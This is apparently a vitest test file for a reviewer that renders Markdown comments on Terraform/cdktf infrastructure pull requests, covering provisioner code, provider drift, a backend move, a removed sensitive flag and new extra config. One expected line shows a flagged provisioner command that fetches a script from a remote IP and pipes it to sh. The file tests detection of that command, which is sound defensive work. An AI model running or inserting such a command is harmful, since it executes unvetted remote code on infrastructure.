import { describe, expect, test } from 'vitest';
import { renderMarkdown } from '../../../../src/review/render/markdown';
import { sectionOf } from '../../fixtures/markdown';
import { pullRequest } from '../../fixtures/pull-request';
import { report, stack } from '../../fixtures/report';

describe('what differs beside the changes of resources, in the comment', () => {
  test('says what differs beside the changes of resources, where, and what keeps it', () => {
    expect(sectionOf(renderMarkdown(pullRequest), 'Runs code').split('\n').slice(2)).toEqual([
      '- **runs code** runs a local-exec provisioner: curl `https://203.0.113.9/x` <code>&#124;</code> sh',
      '  - Where: `data-prod` `Clusters/main/NodePools/batch` at `examples/orbital/landing-zone.ts:132`',
      '  - Differs: `provisioner[0].local-exec.command`: + <code>curl https&#58;//203.0.113.9/x &#124; sh</code>',
      '- **other provider** provider ovh is 2.20.0 instead of 2.19.0',
      '  - Where: `terraform.required_providers` of 2 stacks: `organization`, `data-prod`',
      '  - Differs: `ovh.version`: `2.19.0` → `2.20.0`',
      '- **state moves** the state moves from local to s3: Terraform finds none there, and would make everything again',
      '  - Where: `data-prod` `terraform.backend`',
      '  - Differs: `s3.bucket`: + `orbital-states`',
      '  - Keep it with: `terraform -chdir=cdktf.out/stacks/data-prod state pull > data-prod.tfstate  # in the output of the base`',
      '  - Keep it with: `terraform -chdir=cdktf.out/stacks/data-prod init`',
      '- **guard removed** its value is no longer hidden (sensitive)',
      '  - Where: `data-prod` `output.kubeconfig`',
      '  - Differs: `sensitive`: - `true`',
      '- **unread** configuration beside what cdktf wrote is new',
      '  - Where: `data-prod` `extra.tf`',
      '',
    ]);
  });

  test('says once what is the same in many stacks, and counts those that nobody would read', () => {
    const stacks = [...Array(22).keys()].map((n) =>
      stack({
        id: `stack-${n}`,
        findings: [
          {
            class: 'provider',
            stack: `stack-${n}`,
            where: 'terraform.required_providers',
            says: 'provider ovh is 2.20.0 instead of 2.19.0',
            attributes: [],
          },
        ],
      }),
    );
    expect(
      sectionOf(renderMarkdown(report({ stacks })), 'Other provider')
        .split('\n')
        .slice(2),
    ).toEqual([
      '- **other provider** provider ovh is 2.20.0 instead of 2.19.0',
      '  - Where: `terraform.required_providers` of 22 stacks: `stack-0`, `stack-1`, `stack-2`, `stack-3`, `stack-4`, `stack-5`, `stack-6`, `stack-7`, and 14 more',
      '',
    ]);
  });

  test('folds what else differs in its stack', () => {
    expect(renderMarkdown(pullRequest)).toContain(
      [
        '\n- and 2 other differences:',
        '  - data source is new: `Account`',
        '  - output differs: `output.url`',
        '    - `value`: `https://a.example` → `https://b.example`\n',
      ].join('\n'),
    );
  });
});
